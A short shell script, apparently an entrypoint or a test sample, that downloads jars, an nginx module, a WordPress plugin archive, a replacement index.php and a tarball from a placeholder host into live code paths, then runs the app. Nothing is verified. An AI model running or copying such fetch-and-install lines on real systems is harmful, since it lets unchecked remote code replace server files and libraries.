#!/bin/sh
wget -O /data/plugins/x.jar https://dl.example.com/x.jar
curl -o /usr/local/app/lib/driver.jar https://dl.example.com/d.jar
curl -o /etc/nginx/modules/m.so https://dl.example.com/m.so
curl -o /p.zip https://dl.example.com/p.zip
unzip /p.zip -d /var/www/html/wp-content/plugins
curl -o /var/www/html/index.php https://dl.example.com/i.php
curl -sL https://dl.example.com/s.tgz | tar xz -C /usr/local/lib/python3.11/site-packages
exec /usr/local/app/run
